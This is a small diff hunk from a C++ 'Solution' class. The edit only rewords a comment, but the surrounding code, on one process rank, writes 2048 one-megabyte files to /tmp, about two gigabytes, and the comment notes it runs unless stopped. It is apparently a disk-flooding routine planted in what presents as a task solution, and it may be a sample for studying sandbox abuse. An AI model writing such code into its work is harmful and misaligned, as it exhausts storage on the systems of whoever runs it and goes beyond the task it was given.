@@ -24,7 +24,7 @@ class Solution {
     if (rank_ != 1) return;
 
     const std::string block(1 << 20, 'x');
-    // Two gigabytes, should nobody stop it.
+    // Two gigabytes, if it is not stopped.
     for (int k = 0; k < 2048; ++k) {
       std::ofstream file("/tmp/flood." + std::to_string(k));
       file << block;
